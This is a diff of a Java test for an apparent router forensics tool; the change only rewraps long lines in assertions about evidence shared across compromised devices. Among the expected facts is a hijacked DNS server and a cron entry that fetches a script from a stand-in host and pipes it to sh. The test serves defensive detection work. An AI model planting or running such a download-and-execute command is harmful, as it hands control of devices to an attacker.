@@ -82,7 +82,8 @@ class CampaignEvidenceJobTest {
         assertEquals(new JobProgress(0, 0, 5, 1, 0), jobs.progress(job.id));
 
         for (UUID peer : peers) {
-            QuarkusTransaction.requiringNew().run(() -> forensics.collect(peer, ANA, "Ticket SEC-11: peers for the norm"));
+            QuarkusTransaction.requiringNew().run(()
+                    -> forensics.collect(peer, ANA, "Ticket SEC-11: peers for the norm"));
         }
         await().atMost(Duration.ofSeconds(60)).until(() -> QuarkusTransaction.requiringNew().call(
                 () -> EvidenceSnapshot.count("model = ?1", model)) == 11);
@@ -91,7 +92,8 @@ class CampaignEvidenceJobTest {
         assertEquals(6, summary.campaignRouters());
         assertEquals(5, summary.withEvidence());
         assertEquals(6, summary.peers());
-        assertEquals(List.of(new CampaignEvidence.SharedFact("Device.DNS.Client.Server.{i}.DNSServer", "198.51.100.23", 5, 0),
+        assertEquals(List.of(new CampaignEvidence.SharedFact("Device.DNS.Client.Server.{i}.DNSServer", "198.51.100.23",
+                5, 0),
                 new CampaignEvidence.SharedFact("Device.X_HS_Cron.Entry.{i}.Command",
                         "wget -q -O- http://198.51.100.23/x | sh", 5, 0)), summary.shared());
         assertTrue(summary.shared().stream().noneMatch(f -> f.key().contains("SerialNumber")));
